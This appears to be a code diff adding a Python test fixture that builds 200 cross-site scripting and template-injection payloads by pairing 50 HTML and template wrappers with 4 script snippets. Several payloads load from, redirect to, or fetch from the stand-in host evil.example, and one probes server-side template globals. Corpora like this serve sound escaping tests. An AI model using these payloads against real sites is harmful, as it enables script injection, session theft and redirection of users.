@@ -1,0 +1,61 @@
+"""Texts that would do something if a page took them for more than texts."""
+
+from __future__ import annotations
+
+from itertools import product
+
+_SCRIPTS = ("window.pwned=1", "document.title='pwned'", "fetch('https://evil.example/x')", "alert(1)")
+_SHELLS = (
+    "<script>{}</script>",
+    "</script><script>{}</script>",
+    "</style><script>{}</script>",
+    "</title><script>{}</script>",
+    "<img src=x onerror={}>",
+    '<img src=x onerror="{}">',
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
+    "<details open ontoggle={}>x</details>",
+    "<input autofocus onfocus={}>",
+    "<video><source onerror={}></video>",
+    '" onmouseover="{}',
+    "' onfocus='{}' autofocus='",
+    '"><script>{}</script>',
+    "'><img src=x onerror={}>",
+    "javascript:{}",
+    '<a href="javascript:{}">x</a>',
+    "<math><mi//xlink:href='data:x,<script>{}</script>'>",
+    "<!--><script>{}</script>-->",
+    "<![CDATA[<script>{}</script>]]>",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;",
+    "{{{{ cycler.__init__.__globals__ }}}} {}",
+    "{{% for x in range(9) %}}{}{{% endfor %}}",
+    "${{{}}}",
+    "`${{{}}}`",
+    "<template><script>{}</script></template>",
+    "<noscript><p title='</noscript><script>{}</script>'>",
+    "<style>@import 'https://evil.example/{}'</style>",
+    "<link rel=stylesheet href='https://evil.example/{}'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
+    "<base href='https://evil.example/{}'>",
+    "<form action='https://evil.example/{}'><button autofocus>x</button></form>",
+    "<object data='https://evil.example/{}'></object>",
+    "<embed src='https://evil.example/{}'>",
+    "<audio src='https://evil.example/{}' autoplay></audio>",
+    "<table background='https://evil.example/{}'>",
+    "<div style='background:url(https://evil.example/{})'>x</div>",
+    "<marquee onstart={}>x</marquee>",
+    "<select autofocus onfocus={}>",
+    "\u202e<script>{}</script>\u202c",
+    "\ufeff<script>{}</script>",
+    "<scr\x00ipt>{}</scr\x00ipt>",
+    "+ADw-script+AD4-{}+ADw-/script+AD4-",
+    "</textarea></select></table></svg></math><script>{}</script>",
+    "<x onclick={} tabindex=1 id=x>#x",
+    "<button onclick={} class=pager data-step=1>Later</button>",
+    "<figure class=sheet data-page=1>{}</figure>",
+)
+PAYLOADS = tuple(shell.format(script) for shell, script in product(_SHELLS, _SCRIPTS))
+"""Two hundred of them, all different."""
